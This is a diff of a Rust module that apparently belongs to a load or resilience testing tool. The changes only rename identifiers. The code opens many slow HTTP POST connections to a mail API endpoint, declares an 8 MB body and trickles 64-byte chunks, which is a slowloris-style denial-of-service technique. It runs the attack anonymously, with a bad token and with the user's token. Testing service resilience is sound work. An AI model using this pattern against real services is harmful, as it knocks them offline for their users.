@@ -3,26 +3,26 @@
 use std::sync::Arc;
 
 use super::connection::head;
-use super::scene::Scene;
-use super::slow::{self, Slow};
+use super::scene::AttackContext;
+use super::slow::{self, SlowConnections};
 
 /// Number of connections of the one user.
-const OWN: usize = 200;
+const USER_CONNECTIONS: usize = 200;
 
-const PIECE: &[u8] = &[b' '; 64];
+const CHUNK: &[u8] = &[b' '; 64];
 
 /// Runs the attack until it is over.
-pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
+pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
     let more = "Content-Type: application/json\r\nContent-Length: 8388608\r\n\r\n{";
     let kind = |name, connections, token| {
         let opening = head("POST", "/mail/v1/users/me/messages", token, more);
-        Slow { name, connections, opening, piece: PIECE }
+        SlowConnections { name, connections, opening, chunk: CHUNK }
     };
     let connections = scene.orders.connections;
     let kinds = vec![
         kind("anonymous", connections, None),
         kind("bad token", connections / 4, Some("wf_bad")),
-        kind("own", OWN.min(connections), Some(&scene.orders.token)),
+        kind("own", USER_CONNECTIONS.min(connections), Some(&scene.orders.token)),
     ];
     slow::run_all(scene, kinds).await
 }
